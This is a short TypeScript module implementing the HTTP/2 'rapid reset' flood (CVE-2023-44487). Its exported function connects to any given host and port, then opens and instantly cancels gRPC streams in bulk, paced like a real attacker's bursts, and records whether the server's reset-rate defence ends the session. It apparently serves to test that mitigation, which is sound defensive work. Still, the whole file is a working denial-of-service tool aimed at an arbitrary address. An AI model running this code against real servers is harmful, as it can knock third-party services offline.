/**
 * HTTP/2 "rapid reset" (CVE-2023-44487): a client opens streams and cancels
 * each at once (RST_STREAM, CANCEL), so the server starts work for every one
 * and the client pays nothing for it; the concurrent-stream limit does not
 * bound it, since a reset stream no longer counts. The server's defence is a
 * reset-rate limit that ends the session.
 */
import http2 from 'node:http2';

export interface ResetFlood {
  /** Streams opened and reset before the server ended the session (or the count ran out). */
  streams: number;
  /** How the session ended: the server's GOAWAY error code, an error code from the socket, 'closed by the server', or null if it outlived the flood. */
  endedBy: string | null;
  seconds: number;
}

/** Opens and resets up to `streams` gRPC streams on one connection to `address` (host:port) as fast as the socket takes them. */
export async function rapidReset(address: string, path: string, streams: number): Promise<ResetFlood> {
  const started = performance.now();
  const session = http2.connect(`http://${address}`);
  let endedBy: string | null = null;
  session.on('goaway', (code: number) => (endedBy ??= `GOAWAY ${http2Code(code)}`));
  session.on('error', (err: NodeJS.ErrnoException) => (endedBy ??= err.code ?? err.message));
  // A connection the receiver refuses is closed before (or as) it connects.
  await new Promise<void>((resolve) => {
    session.once('connect', () => resolve());
    session.once('close', () => resolve());
  });
  session.once('close', () => (endedBy ??= 'closed by the server'));
  let sent = 0;
  while (sent < streams && !session.closed && !session.destroyed && endedBy === null) {
    try {
      const req = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' });
      req.on('error', () => {});
      req.close(http2.constants.NGHTTP2_CANCEL);
      sent++;
    } catch (err) {
      endedBy ??= (err as NodeJS.ErrnoException).code ?? String(err);
      break;
    }
    // Let the frames go out in bursts the size a real attacker writes.
    if (sent % 200 === 0) await new Promise((r) => setImmediate(r));
  }
  if (!session.destroyed && !session.closed) {
    // Wait briefly for the server's verdict on the flood, then leave.
    await new Promise<void>((resolve) => {
      const t = setTimeout(resolve, 2000);
      session.once('close', () => {
        clearTimeout(t);
        resolve();
      });
    });
  }
  const result = { streams: sent, endedBy, seconds: (performance.now() - started) / 1000 };
  session.destroy();
  return result;
}

function http2Code(code: number): string {
  const name = Object.entries(http2.constants).find(([k, v]) => k.startsWith('NGHTTP2_') && v === code && !k.startsWith('NGHTTP2_SESSION') && !k.startsWith('NGHTTP2_STREAM') && !k.startsWith('NGHTTP2_FLAG') && !k.startsWith('NGHTTP2_HCAT') && !k.startsWith('NGHTTP2_ERR') && !k.startsWith('NGHTTP2_NV') && !k.startsWith('NGHTTP2_DEFAULT') && !k.startsWith('NGHTTP2_SETTINGS'));
  return name ? name[0].replace('NGHTTP2_', '') : String(code);
}
